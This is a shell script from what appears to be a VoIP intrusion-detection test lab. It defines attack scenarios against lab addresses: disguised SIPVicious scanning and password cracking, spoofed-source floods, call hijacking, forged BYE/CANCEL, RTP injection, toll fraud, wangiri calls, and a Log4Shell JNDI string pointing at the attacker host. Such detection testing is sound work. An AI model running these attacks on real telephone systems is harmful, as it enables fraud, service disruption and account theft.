# Sourced by run.sh: the attacks. A function for each scenario of expectations.ini; `begin` starts the clock anew where
# something ordinary goes before. $attacker is the address that the alerts must name.
attacker=198.51.100.23
exchange=192.0.2.10

# as ADDRESS: what the attacker's host sends comes from there; the tools' own options for that have no effect.
as() { at attacker ip route replace 192.0.2.0/24 dev eth0 src "$1"; }

# vicious TOOL [options]: a tool of SIPVicious.
vicious() {
  local tool=$1; shift
  as $attacker
  at attacker "$tool" -x $attacker "$@" >"$work/$tool.log" 2>&1 || true
}

# disguised ADDRESS TOOL [options]: the same from another address, under the name of an ordinary phone.
disguised() {
  local address=$1 tool=$2; shift 2
  if [ ! -d "$work/disguised" ]; then
    mkdir "$work/disguised" && cp -r /usr/share/sipvicious/sipvicious "$work/disguised/"
    sed -i "s/'friendly-scanner'/'Desk Phone 410\/2.1.7'/" "$work"/disguised/sipvicious/libs/*.py "$work"/disguised/sipvicious/*.py
  fi
  as "$address"
  (cd "$work/disguised" && at attacker /usr/bin/python3 -m "sipvicious.$tool" -x "$address" "$@" >"$work/$tool.log" 2>&1) || true
}

scenario_scan() { vicious svmap 192.0.2.8-12 192.0.2.32/27; }
scenario_scan_disguised() { disguised $attacker svmap 192.0.2.8-12 192.0.2.32/27; }
scenario_scan_slow() { disguised $attacker svmap -t 0.3 192.0.2.8-12 192.0.2.40-45; }

scenario_enumerate_register() { vicious svwar -e 190-230 $exchange; }
scenario_enumerate_invite() { vicious svwar -m INVITE -e 190-230 $exchange; }
scenario_enumerate_options() { vicious svwar -m OPTIONS -e 190-230 $exchange; }

scenario_enumerate_own_tool() {
  { echo SEQUENTIAL; seq 500 519; } >"$work/numbers.csv"
  sed 's/\[user\]/[field0]/g; s/<recv response="401"/<recv response="404"/' "$work/flood-register.xml" >"$work/enumerate.xml"
  party attacker $attacker 5070 enumerate -inf numbers.csv -m 20 -r 4
}

# The right word comes last.
scenario_crack() {
  { seq 1000 1029; echo pass-206; } >"$work/words"
  vicious svcrack -u 206 -d "$work/words" $exchange
  grep -qa pass-206 "$work/svcrack.log" || { echo "lab: svcrack did not find the password" >&2; echo svcrack >>"$work/broken"; }
}

scenario_crack_distributed() {
  local n
  for n in 65 66 67 68 69 70; do
    seq "${n}0" "${n}6" >"$work/words"
    disguised "198.51.100.$n" svcrack --maximumtime=1 -u 206 -d "$work/words" $exchange
  done
  as $attacker
}

scenario_spray() {
  sed 's/FINAL/401/' "$work/register-listed.xml" >"$work/register-wrong.xml"
  listed 300 311 123456 >"$work/phones.csv"
  party attacker $attacker 5070 register-wrong -inf phones.csv -m 12 -r 2
}

# A stolen account: its calls go to the attacker from now on.
scenario_hijack() {
  register 8
  begin
  party attacker $attacker 5070 register -m 1 -key user 208 -au 208 -ap pass-208 -key life 10 -key agent "Softline 9.4"
}

# A stranger with the password throws all phones of an account out.
scenario_unregister() {
  register 7
  begin
  sed 's/Contact: <.*/Contact: */' "$work/register.xml" >"$work/register-all.xml"
  party attacker $attacker 5070 register-all -m 1 -key user 207 -au 207 -ap pass-207 -key life 0 -key agent "Softline 9.4"
}

# flood SCENARIO USER COUNT RATE [sipp options]; a server that is overrun may answer late, and that is no mistake of the lab.
flood() {
  local scenario=$1 user=$2 count=$3 rate=$4; shift 4
  (cd "$work" && at attacker timeout 20 sipp $exchange:5060 -sf "$scenario.xml" -p 5080 -key user "$user" -r "$rate" -m "$count" -nr \
    -nostdin "$@" >"$work/flood.log" 2>&1) || true
}

scenario_flood_invite() { flood flood-invite 4711 400 100 -i $attacker; }
scenario_flood_register() { flood flood-register 207 400 100 -i $attacker; }
scenario_flood_options() { flood flood-options 4711 500 100 -i $attacker; }

# crowd SCENARIO ADDRESSES COUNT RATE: a flood in which the packets come from so many addresses in turn.
crowd() {
  local n
  { echo SEQUENTIAL; for n in $(seq "$2"); do echo "198.18.$((n / 250)).$((n % 250 + 1))"; done; } >"$work/crowd.csv"
  sed 's/\[local_ip\]/[field0]/g; s/\[local_port\]/5080/g; /<recv /d' "$work/$1.xml" >"$work/crowd.xml"
  flood crowd 4711 "$3" "$4" -t ui -max_socket 2000 -inf crowd.csv -ip_field 0 -i 198.18.0.2
}

scenario_flood_crowd() { crowd flood-invite 1100 1200 200; }
scenario_flood_gang() { crowd flood-invite 30 3000 400; }

# talking: alice calls bob, and both speak.
talking() {
  tell alice dial sip:202@office.example
  until_talking 192.0.2.101 192.0.2.102
  sleep 1
}

# until_talking FROM TO: waits until the capture shows media between two hosts.
until_talking() {
  local turn
  for turn in $(seq 100); do
    python3 "$lab/overheard.py" "$work/$name.pcap" "$1" "$2" && return 0
    sleep 0.1
  done
  echo "lab: no media from $1 to $2" >&2; echo media >>"$work/broken"
}

hang_up() { local desk; for desk in "$@"; do tell "$desk" hangup; sleep 0.3; done; }

scenario_forged_bye() {
  talking
  begin
  at attacker python3 "$lab/forge.py" bye "$work/$name.pcap" $attacker 192.0.2.101 192.0.2.102
  sleep 1
  hang_up alice
}

# The call rings at a phone of the office when the stranger's CANCEL comes.
scenario_forged_cancel() {
  local callee
  register 5
  phone 5 5060 answer-cancelled 1 & callee=$!
  until_bound annex 192.0.2.135 5060
  tell alice dial sip:205@office.example
  sleep 1
  begin
  at attacker python3 "$lab/forge.py" cancel "$work/$name.pcap" $attacker 192.0.2.101 192.0.2.135
  wait "$callee" || true
}

# injected MODE: a voice is put into a call between alice and bob.
injected() {
  talking
  begin
  at attacker python3 "$lab/inject.py" "$1" "$work/$name.pcap" $attacker 192.0.2.101 192.0.2.102 4
  hang_up alice
}
scenario_inject_stranger() { injected stranger; }
scenario_inject_continue() { injected continue; }
scenario_inject_spoof() { injected spoof; }
scenario_media_flood() { at attacker python3 "$lab/inject.py" flood - $attacker - 192.0.2.103 3; }

# A stranger calls bob's phone and answers its BYE with a challenge: the phone sends a digest of its password.
scenario_digest_leak() {
  local leak
  target=192.0.2.102 party attacker $attacker 5070 leak -m 1 -key called 202 & leak=$!
  sleep 2
  hang_up bob
  wait "$leak" || true
}

# The account of a phone is used from outside for calls that cost; the trunk connects them.
scenario_toll_fraud() {
  local gateway
  { echo SEQUENTIAL
    printf '%s\n' 00882990000011 0088299000002 0900500000031 0025261000021 0037160000022 0022460000023 0096030000024 \
      0023222000025 0067570000026 0088299000013 0900500000034 0088168000035; } >"$work/dear.csv"
  sed '/rtp_stream/d; s/\[called\]/[field0]/g' "$work/call.xml" >"$work/call-dear.xml"
  sed '/rtp_stream/d' "$work/answer.xml" >"$work/answer-dear.xml"
  party trunk 192.0.2.20 5060 answer-dear -m 12 -d 300 -key user gateway -key agent "Border Gateway 7" & gateway=$!
  until_listening trunk 5060
  begin
  party attacker $attacker 5070 call-dear -inf dear.csv -m 12 -r 2 -d 4000 -au 208 -ap pass-208 -key user 208 -key name "Phone 208" \
    -key agent "Softline 9.4 (Linux)"
  wait "$gateway" || true
}

# Twelve telephones ring for a second, so that their owners call back.
scenario_wangiri() {
  local gateway
  { echo SEQUENTIAL; for n in $(seq 10 21); do echo "030555000$n"; done; } >"$work/rung.csv"
  sed 's/\[called\]/[field0]/g' "$work/call-cancelled.xml" >"$work/call-once.xml"
  party trunk 192.0.2.20 5060 answer-cancelled -m 12 -key user gateway -key agent "Border Gateway 7" & gateway=$!
  until_listening trunk 5060
  begin
  party attacker $attacker 5070 call-once -inf rung.csv -m 12 -r 2 -d 1000 -au 208 -ap pass-208 -key user 208 -key name "Phone 208" \
    -key agent "Softline 9.4 (Linux)"
  wait "$gateway" || true
}

scenario_malformed() { at attacker python3 "$root/Fixtures/Making/malformed.py" $attacker $exchange; }

scenario_injection() {
  party attacker $attacker 5070 options -m 1 -key user 201 -key agent '${jndi:ldap://198.51.100.23/a}'
}

# A NOTIFY that makes many phones restart, straight to a phone.
scenario_reboot() { target=192.0.2.103 party attacker $attacker 5070 notify-reboot -m 1 -key called 203; }
